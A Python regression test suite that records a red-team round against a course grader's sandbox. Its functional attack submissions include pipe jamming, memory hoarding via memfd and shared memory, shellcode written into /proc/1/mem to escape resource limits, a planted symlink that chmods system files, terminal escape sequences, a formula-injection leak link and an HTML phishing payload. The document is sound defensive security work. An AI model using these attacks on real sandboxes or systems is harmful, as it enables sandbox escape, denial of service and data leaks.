"""Red team round rt1: attacks on the grader that worked when this file was written.

Every test here FAILS while its weakness exists and passes once it is fixed; each says which
line of docs/grading-guarantees.md (or which project rule) the attack breaks. The submissions
are kept small so that the suite stays safe on a shared machine: the memory attacks hold a few
hundred MB for a second, never gigabytes.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import textwrap
import tracemalloc
from pathlib import Path

import mistune
import numpy as np
import pytest
from redteam_support import COURSE, DISARM, attack, mode, require_bwrap, survivors_named

from pruneedu import quiz, wire
from pruneedu.cli import main
from pruneedu.exercises import load_exercise, run_case
from pruneedu.grading import feedback, learner_texts, sandbox, stats
from pruneedu.grading.classgrade import grade_class
from pruneedu.grading.material import load_material
from pruneedu.grading.rejects import summary

__all__ = ["mode"]

FIXTURE = Path(__file__).parent / "fixtures" / "class"
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# --- 1. A submission hangs the grader forever -------------------------------------------------
# Claim: "each exercise its own wall-clock deadline (loading and every call)"; "A forged ...
# reply fails that learner's exercise ..., never the grader". The grader writes each request
# with a blocking write and no deadline. The runner keeps a copy of the request pipe's read end,
# and /proc/self/fd/N reopens that very pipe for WRITING: the submission fills it to the last
# byte, answers the current call itself, and sleeps (no CPU time, so RLIMIT_CPU never fires).
# The grader's next request then blocks in write() for ever: the whole class stops.
JAM_THE_REQUEST_PIPE = DISARM + '''
import fcntl, os, threading

def _pipes():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                found.append((int(name), fcntl.fcntl(int(name), fcntl.F_GETFL) & os.O_ACCMODE))
        except OSError:
            pass
    return found

def f(x):
    pipes = _pipes()
    for fd, access in pipes:
        if access == os.O_RDONLY:
            jam = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
            for size in (65536, 4096, 1):
                try:
                    while True:
                        os.write(jam, b"x" * size)
                except BlockingIOError:
                    pass
            os.close(jam)
    for fd, access in pipes:
        if access == os.O_WRONLY:
            os.write(fd, b'{"n": 2, "ok": true, "value": 1}\\n')
    threading.Event().wait()
'''

HANG_GRADER = """
import sys, time
sys.path.insert(0, {tests!r})
from redteam_support import attack
started = time.monotonic()
run = attack({code!r}, {mode!r}, calls=[(1,), (2,), (3,)], time_limit_s=2)
print(round(time.monotonic() - started, 1), run.error)
"""


def test_a_submission_cannot_hang_the_grader_by_jamming_the_request_pipe(mode):
    grader = subprocess.Popen(
        [sys.executable, "-c", HANG_GRADER.format(tests=str(Path(__file__).parent),
                                                  code=JAM_THE_REQUEST_PIPE, mode=mode)],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True, cwd=COURSE)
    try:
        output, _ = grader.communicate(timeout=30)  # the limit is 2 s; startup takes ~1 s
    except subprocess.TimeoutExpired:
        os.killpg(grader.pid, signal.SIGKILL)  # its sandbox dies with it (--die-with-parent)
        grader.wait()
        pytest.fail("the grader was still blocked writing a request 30 s into a 2 s limit")
    assert grader.returncode == 0, output.decode(errors="replace")


# --- 2. Hidden inputs leak into the learner's feedback through the exit status -------------
# Claim: "Hidden inputs cannot surface in quoted text ... Timing: one bit per exercise leaks
# ... no text does." A submission that exits with a status computed from a hidden input gets
# "the process exited with status N" into run.error, which stays error_quotable, and
# `pruneedu feedback` prints ExerciseResult.error to the learner whatever its origin (the
# result does not even carry error_quotable). 8 bits per submission, plus the signal name.
EXIT_WITH_HIDDEN_BYTE = """
import os
_calls = []
def zero_fraction(weights):
    _calls.append(weights)
    if len(_calls) == {public} + 1:  # the first hidden call: the public ones come first
        os._exit(40 + int(weights.size))
    return 0.0
"""


def _feedback_for_hidden_input(tmp_path: Path, hidden_size: int) -> str:
    exercises = tmp_path / f"exercises-{hidden_size}"
    shutil.copytree(FIXTURE / "exercises", exercises)
    hidden = exercises / "zero-fraction" / "hidden_tests.py"
    # Same test names, same number of tests: only the hidden input's size differs.
    original = hidden.read_text()
    changed = original.replace("[0.0, 1.0, 2.0, 3.0, 4.0]", f"[0.0] + [1.0] * {hidden_size - 1}")
    assert changed != original, "the fixture's first hidden input moved; update this test"
    hidden.write_text(changed)
    submissions = tmp_path / f"subs-{hidden_size}"
    submissions.mkdir()
    public = len(load_exercise(exercises / "zero-fraction").public_cases())
    (submissions / "mallory.zero-fraction.py").write_text(
        EXIT_WITH_HIDDEN_BYTE.format(public=public))
    material = load_material(FIXTURE / "quizzes", exercises)
    grades = grade_class(submissions, material, progress=False)
    return feedback.learner_feedback(grades, "mallory")


def test_feedback_text_does_not_depend_on_hidden_inputs(tmp_path):
    require_bwrap()
    five, nine = (_feedback_for_hidden_input(tmp_path, size) for size in (5, 9))
    assert "status 45" not in five and "status 49" not in nine
    assert five == nine


def test_an_exit_after_hidden_inputs_is_told_as_a_fixed_text(mode):
    code = "import os\ndef f(x):\n    if x > 100:\n        os._exit(x - 100)\n    return x\n"
    run = attack(code, mode, calls=[(1,), (142,)], hidden_from=1)
    assert run.learner_error == learner_texts.ENDED


# --- 3. The memory cap holds only for the address space -------------------------------------
# Claim: "Its resources are capped. Address space: ... plus the exercise's memory_limit_mb";
# the non-guarantees name only the 64 MB scratch and empty files. memfd_create pages and SysV
# shared memory segments are never mapped for long, so RLIMIT_AS does not see them: with 512
# descriptors of 64 MB a sandbox holds 32 GB of the host's memory, and SysV segments (an IPC
# namespace has no limit on their total) hold as much as the machine has, until the deadline.
HOLD_MEMFD = """
import os
_held = []
def f(count):
    for number in range(count):
        fd = os.memfd_create(f"held{number}")
        os.posix_fallocate(fd, 0, 48 * 2**20)  # each under RLIMIT_FSIZE (64 MB)
        _held.append(fd)
    return 48 * count
"""

HOLD_SYSV_SHM = DISARM + """
import ctypes
def f(count):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmdt.argtypes = [ctypes.c_void_p]
    held = 0
    for _ in range(count):
        segment = libc.shmget(0, 48 * 2**20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if segment < 0:
            return held
        address = libc.shmat(segment, None, 0)
        if address is None or address == ctypes.c_void_p(-1).value:
            return held
        ctypes.memset(address, 1, 48 * 2**20)
        libc.shmdt(ctypes.c_void_p(address))  # unmapped: the address space is free again
        held += 48
    return held
"""


@pytest.mark.parametrize("code", [HOLD_MEMFD, HOLD_SYSV_SHM], ids=["memfd", "sysv-shm"])
def test_a_submission_cannot_hold_memory_far_beyond_its_limit(code):
    require_bwrap()
    limit_mb = 64
    run = attack(code, "bwrap", calls=[(6,)], memory_limit_mb=limit_mb, time_limit_s=10)
    held = run.outcomes[0].value if run.outcomes[0].ok else 0
    # The limit, the 64 MB scratch and some slack: anything past that is the host's memory.
    assert held <= limit_mb + 64 + 64, f"the sandbox held {held} MB with a {limit_mb} MB limit"


# --- 4. The shipped checker turns a 300 KB reply into 4 GB in the grader ---------------------
# Claim: "The grader cannot be made to allocate much." The wire caps hold, but check_mask (the
# magnitude-mask exercise's public AND hidden checker) calls np.asarray(output) on whatever
# came back: a list of one 10,000-character string and 99,998 empty ones (300 KB of JSON, inside
# every cap) becomes a <U10000 array of 100,000 entries, 4 GB, in the grader's process. The
# test uses 2,500 entries (20 KB of JSON -> 95 MiB) to stay polite on a shared machine.
def test_a_string_list_result_does_not_make_the_checker_allocate_hundreds_of_times_more():
    reply = json.dumps(["x" * 10_000] + [""] * 2_499).encode()
    value = wire.decode(wire.parse(reply))
    case = load_exercise("magnitude-mask").public_cases()[0]
    tracemalloc.start()
    try:
        result = run_case(case, value)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert not result.passed
    assert peak < 100 * len(reply), f"{len(reply)} bytes of reply made the checker use {peak}"


# --- 5. ModuleDescription.tensors(): broadcasting past the element cap ----------------------
# Claim: the caps bound what a reply can make the grader allocate. A $module whose
# "w_orig" is (N, 1) and "w_mask" is (1, N) passes decode (2N elements) and tensors() /
# parameter_count() multiply them into N*N elements in the grader (latent: no shipped checker
# calls them yet, but they are the documented way to check a returned network).
def test_a_module_description_cannot_broadcast_past_the_element_cap():
    n = 3_000
    data = {"$module": {"class": "Sequential", "layers": [], "state": {"$dict": [
        ["w_orig", wire.encode(np.ones((n, 1), dtype="float64"))],
        ["w_mask", wire.encode(np.ones((1, n), dtype="bool"))]]}}}
    try:
        description = wire.decode(data)
    except wire.WireError:
        return  # refused at the door: fixed
    tracemalloc.start()
    try:
        try:
            count = description.parameter_count()
        except (ValueError, wire.WireError):
            return  # refused when combined: fixed
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert count <= 2 * n and peak < 10 * 2 * n * 8, (count, peak)


# --- 6. Student strings reach the terminal and the rejects CSV raw ---------------------------
# Rule: "Every student-controlled string is hostile where it lands (CSV, terminal,
# HTML/Markdown)". Unknown question ids, unknown quiz ids and file names go unchanged into the
# printed summary of grade/feedback/stats, into gradebook.rejects.csv, and (as answer values)
# into the stats table. An id such as "\x1b[2J...All graded, no problems.\x1b[8m" clears the
# teacher's terminal and hides the rest; "=HYPERLINK(...)" runs as a formula in a spreadsheet.
CLEAR_SCREEN = "\x1b[2J\x1b[1;1H\x1b[32mAll submissions graded, no problems.\x1b[8m"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"details")'


def _responses(learner: str, quiz_id: str, answers: dict, bank_hash: str) -> dict:
    stamp = "2026-11-21T10:00:00+00:00"
    return {"format_version": 1, "course_id": "pruneedu-2026", "quiz_id": quiz_id,
            "quiz_hash": bank_hash, "learner_id": learner, "mode": "graded",
            "started_at": stamp, "updated_at": stamp,
            "answers": {k: {"value": v, "answered_at": stamp} for k, v in answers.items()}}


@pytest.fixture
def hostile_class(tmp_path):
    material = load_material(FIXTURE / "quizzes", FIXTURE / "exercises")
    bank = material.banks["demo-quiz"]
    single = next(q.id for q in bank.questions if q.type == "single")
    folder = tmp_path / "subs"
    folder.mkdir()
    digest = quiz.content_hash(bank)
    (folder / "mallory.demo-quiz.responses.json").write_text(json.dumps(_responses(
        "mallory", "demo-quiz", {CLEAR_SCREEN: 1, FORMULA: 1, single: CLEAR_SCREEN}, digest)))
    (folder / "mallory.other.responses.json").write_text(json.dumps(_responses(
        "mallory", FORMULA, {}, digest)))
    (folder / "=1+2.txt").write_text("x")
    (folder / "\x1b[31mred\x1b[0m.txt").write_text("x")
    return folder, material


def test_the_printed_rejects_summary_holds_no_terminal_controls(hostile_class):
    folder, material = hostile_class
    grades = grade_class(folder, material, progress=False)
    printed = summary(grades.rejects)
    assert "problem" in printed
    assert not CONTROL.search(printed), repr(CONTROL.findall(printed))


def test_the_stats_table_holds_no_terminal_controls(hostile_class):
    folder, material = hostile_class
    grades = grade_class(folder, material, progress=False)
    table = stats.format_table(stats.table_rows(grades, stats.item_analysis(grades)))
    assert not CONTROL.search(table), repr(CONTROL.findall(table))


def test_no_rejects_csv_cell_starts_a_spreadsheet_formula(hostile_class, tmp_path):
    folder, _ = hostile_class
    out = tmp_path / "out"
    main(["grade", str(folder), "--out", str(out), "--no-progress",
          "--quizzes", str(FIXTURE / "quizzes"), "--exercises", str(FIXTURE / "exercises")])
    with open(out / "rejects.csv", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert any("HYPERLINK" in cell or "1+2" in cell for cell in cells)  # the rows are there
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


# --- 7. One file name that is not UTF-8 fails the whole class's grading ---------------------
# Claim (command.py): exit 1 = "the rest was graded and the files were still written". A file
# named b"mallory-\xff.txt" (any zip from a Latin-1 machine) reaches the rejects as a lone
# surrogate; writing gradebook.json / rejects.csv as UTF-8 raised, and `grade` exited 2 ("the
# output is not to be used") with only the CSV written.
def test_a_file_name_that_is_not_utf8_is_a_reject_not_a_failed_class(tmp_path):
    folder = tmp_path / "subs"
    folder.mkdir()
    shutil.copy(FIXTURE / "submissions" / "ada.demo-quiz.responses.json", folder)
    with open(os.path.join(os.fsencode(folder), b"mallory-\xff.txt"), "w") as handle:
        handle.write("x")
    out = tmp_path / "out"
    status = main(["grade", str(folder), "--out", str(out), "--no-progress",
                   "--quizzes", str(FIXTURE / "quizzes"),
                   "--exercises", str(FIXTURE / "exercises")])
    assert status == 1
    assert (out / "gradebook.json").is_file()
    assert (out / "rejects.csv").is_file()


# --- 8. One learner's feedback file overwrites another's -----------------------------------
# Learner ids are self-declared in responses files. Mallory hands in one file as "Ada" (so "ada"
# gets the case-collision suffix "ada-" + sha256("ada")[:8]) and one as exactly that name:
# both learners' feedback goes to ada-fdee430d.md, and the later (mallory's) replaces ada's.
def test_feedback_file_names_never_collide():
    taken = "ada-" + hashlib.sha256(b"ada").hexdigest()[:8]
    names = feedback.feedback_file_names(["Ada", "ada", taken])
    assert len({name.casefold() for name in names.values()}) == 3, names


# --- 9. Markdown/HTML from another learner's file lands in a learner's feedback -------------
# Rule: student strings are hostile in Markdown/HTML. Unknown question ids (and file names)
# are pasted into the "Not graded" list of the learner NAMED in the responses file, who may
# not be its author (learner ids are self-declared): mallory can put a phishing link or HTML
# into ada's feedback. (Here the file carries an unknown question id; a file name does too.)
def test_feedback_quotes_student_strings_inertly(tmp_path):
    material = load_material(FIXTURE / "quizzes", FIXTURE / "exercises")
    bank = material.banks["demo-quiz"]
    folder = tmp_path / "subs"
    folder.mkdir()
    html = '<img src=x onerror="alert(1)">[resubmit here](https:evil.example)'
    (folder / "x.demo-quiz.responses.json").write_text(json.dumps(_responses(
        "ada", "demo-quiz", {html: 1}, quiz.content_hash(bank))))
    grades = grade_class(folder, material, progress=False)
    text = feedback.learner_feedback(grades, "ada")
    # Since round 8 a file not named ada.demo-quiz.responses.json in ada's place has neither
    # its name nor its reason in her feedback; the rendering check below still holds.
    assert "could not be graded (your instructor has the reason)" in text
    # However the feedback is shown (an LMS renders Markdown with raw HTML allowed), the
    # student's string must stay text: no tag, no link of theirs.
    rendered = mistune.html(text)
    assert "<img" not in rendered and 'href="https:evil' not in rendered, rendered


# --- 10. A grader running as root lets the sandbox read root-only /proc files ---------------
# Claim: "Its /proc is its own and tamed ... masked, as Docker does". The sandbox's user is
# kuid 0 when the grader is root, so every root-only (0400) /proc file not masked is readable:
# slabinfo and vmallocinfo (kernel heap layout), kpageflags/kpagecount (physical pages),
# pagetypeinfo. Aids for a kernel exploit, which the guarantees name as the remaining risk.
ROOT_ONLY = ("slabinfo", "vmallocinfo", "pagetypeinfo", "kpageflags", "kpagecount")


def test_root_only_proc_files_stay_unreadable_in_the_sandbox():
    require_bwrap()
    code = textwrap.dedent("""
        def f(names):
            readable = []
            for name in names:
                try:
                    with open("/proc/" + name, "rb") as handle:
                        handle.read(64)
                    readable.append(name)
                except OSError:
                    pass
            return readable
    """)
    run = attack(DISARM + code, "bwrap", calls=[(list(ROOT_ONLY),)])
    assert run.outcomes[0].ok, run.error
    assert run.outcomes[0].value == []


# --- 11. A grader running as root lets the sandbox start threads without limit --------------
# Claim: "Its resources are capped ... 64 threads" and "seccomp makes up for RLIMIT_NPROC,
# which the kernel does not apply to root's processes". Seccomp refuses new processes, not
# threads, and RLIMIT_NPROC (64, set by the runner) is skipped for tasks of the kernel's root
# user, which the sandbox is when the grader runs as root. With 64 KiB stacks, the address-space
# cap allows thousands of threads: kernel memory and PIDs of the whole host, until the deadline.
def test_the_thread_cap_holds_even_when_the_grader_is_root():
    require_bwrap()
    code = textwrap.dedent("""
        import threading
        def f(count):
            threading.stack_size(64 * 1024)
            stop = threading.Event()
            started = 0
            try:
                for _ in range(count):
                    threading.Thread(target=stop.wait, daemon=True).start()
                    started += 1
            except RuntimeError:
                pass
            stop.set()
            return started
    """)
    run = attack(code, "bwrap", calls=[(300,)])
    started = run.outcomes[0].value if run.outcomes[0].ok else 0
    assert started < sandbox.NPROC_IN_SANDBOX, f"{started} threads started in one sandbox"


# --- 12. bubblewrap's own pid 1 runs anything, with none of the runner's limits -------------
# Claims: "New processes ... and exec are refused by seccomp" and "Its resources are capped:
# address space ..., CPU time ..., 512 open files". Only the runner (pid 2) loads the exec
# filter and the rlimits; bubblewrap's init (pid 1 in the sandbox) has the base filter only and
# the grader's limits, and the runner may open /proc/1/mem for writing (same user, no caps on
# either side, no Yama here). The submission writes an execve() stub over the code pid 1
# returns to from wait4, and exits: pid 1 exec()s a fresh Python that inherits the protocol
# pipes and answers the call itself, with RLIMIT_AS and RLIMIT_CPU unlimited.
PID1_EXEC = DISARM + r'''
import os, struct, sys

PAYLOAD = """
import json, os, resource
limits = [[name, resource.getrlimit(getattr(resource, name))[0]]
          for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NOFILE")]
value = {"$dict": [["pid", os.getpid()], ["limits", {"$dict": limits}]]}
os.write(1, (json.dumps({"n": 2, "ok": True, "value": value}) + "\\n").encode())
"""

def f(x):
    pc = int(open("/proc/1/syscall").read().split()[-1], 16)  # where pid 1's wait4 returns
    strings = [sys.executable.encode() + b"\0", b"-c\0", PAYLOAD.encode() + b"\0"]
    code_length = 32
    offsets, blob = [], b""
    for text in strings:
        offsets.append(code_length + len(blob))
        blob += text
    argv_at = code_length + len(blob) + (-(code_length + len(blob))) % 8
    blob = blob.ljust(argv_at - code_length, b"\0")
    argv = b"".join(struct.pack("<Q", pc + o) for o in offsets) + struct.pack("<Q", 0)
    code = (b"\x48\x8d\x3d" + struct.pack("<i", offsets[0] - 7)   # lea rdi, [rip+path]
            + b"\x48\x8d\x35" + struct.pack("<i", argv_at - 14)   # lea rsi, [rip+argv]
            + b"\x31\xd2\xb8\x3b\x00\x00\x00\x0f\x05"              # envp = 0; execve
            + b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05")             # exit(0) if it failed
    memory = os.open("/proc/1/mem", os.O_RDWR)
    os.pwrite(memory, code + blob + argv, pc)
    os.close(memory)
    os._exit(0)
'''


def test_the_sandboxes_pid_1_cannot_be_made_to_exec_without_limits():
    require_bwrap()
    if os.uname().machine != "x86_64":
        pytest.skip(f"the exploit is x86-64 machine code; this is {os.uname().machine}: NOT run")
    run = attack(PID1_EXEC, "bwrap")
    outcome = run.outcomes[0]
    hijacked = outcome.ok and isinstance(outcome.value, dict) and "limits" in outcome.value
    assert not hijacked, f"pid 1 exec'd and answered: {outcome.value}"


# --- 13. Any local user can make a grader chmod /tmp and any file to 0700 ------------------
# Claim: "the next grading run removes folders whose grader is gone" (unsafe-none; the test
# suite runs it too). _remove_stale_scratch() trusts every /tmp entry named
# pruneedu-sandbox-<dead pid>-*: when it is a symbolic link planted by another user, rmtree
# refuses it, and the onerror handler chmods os.path.dirname(link) (that is /tmp itself) and the
# link's TARGET (os.chmod follows links) to 0700. As root: /tmp closed to every other user, and
# /etc/passwd (or any file the planter names) made 0700. Shown on a stand-in /tmp here.
def test_stale_scratch_cleanup_never_changes_modes_through_a_planted_link(tmp_path, monkeypatch):
    fake_tmp = tmp_path / "tmp"
    fake_tmp.mkdir()
    fake_tmp.chmod(0o1777)
    target = tmp_path / "passwd"
    target.write_text("root:x:0:0::/root:/bin/sh\n")
    target.chmod(0o644)
    dead_pid = int(Path("/proc/sys/kernel/pid_max").read_text()) + 12345
    (fake_tmp / f"{sandbox.SCRATCH_PREFIX}{dead_pid}-planted").symlink_to(target)
    monkeypatch.setattr("tempfile.tempdir", str(fake_tmp))
    sandbox._remove_stale_scratch()
    assert oct(fake_tmp.stat().st_mode & 0o7777) == oct(0o1777)
    assert oct(target.stat().st_mode & 0o7777) == oct(0o644)


# --- 14. A hijacked pid 1 outlives grading -----------------------------------------------------
# Claim: "Nothing it starts survives it ... the grader kills the sandbox when a job ends". The
# grader kills bubblewrap's process group and relies on --die-with-parent (PR_SET_PDEATHSIG) for
# the rest. The pid 1 of attack 12 clears its own death signal and is in its own session, so it
# lives on after the grader has returned, reparented to the host's init, with no CPU or memory
# limit (free to spin and make every later learner's honest code time out). It sleeps 30 s here.
# The second case is a guard for the obvious fix (bwrap --as-pid-1): the runner as pid 1 must
# not be able to do the same by clearing its own death signal.
SURVIVOR_PAYLOAD = """
import ctypes, json, os, time
libc = ctypes.CDLL(None)
libc.prctl(15, {name!r}.encode(), 0, 0, 0)  # PR_SET_NAME: how the test finds it
libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: none
try:
    os.setsid()
except OSError:
    pass
os.write(1, (json.dumps({{"n": 2, "ok": True, "value": "hijacked"}}) + "\\n").encode())
time.sleep(30)
"""

RUNNER_CLEARS_ITS_DEATH_SIGNAL = DISARM + """
import ctypes, time
def f(x):
    libc = ctypes.CDLL(None)
    libc.prctl(15, {name!r}.encode(), 0, 0, 0)
    libc.prctl(1, 0, 0, 0, 0)
    time.sleep(30)
"""


@pytest.mark.parametrize("how", ["hijacked-pid-1", "runner-clears-death-signal"])
def test_nothing_of_the_submission_outlives_grading(how):
    require_bwrap()
    if how == "hijacked-pid-1" and os.uname().machine != "x86_64":
        pytest.skip(f"the exploit is x86-64 machine code; this is {os.uname().machine}: NOT run")
    name = f"rt1s{os.getpid() % 100000}{how[:3]}"[:15]
    if how == "hijacked-pid-1":
        payload = SURVIVOR_PAYLOAD.format(name=name)
        code = PID1_EXEC.replace(PID1_EXEC[PID1_EXEC.index('PAYLOAD = """'):
                                           PID1_EXEC.index("def f(x):")],
                                 f"PAYLOAD = {payload!r}\n\n")
        run = attack(code, "bwrap")
    else:
        run = attack(RUNNER_CLEARS_ITS_DEATH_SIGNAL.format(name=name), "bwrap", time_limit_s=2)
    assert survivors_named(name) == [], f"still alive after grading ({run.error or 'answered'})"
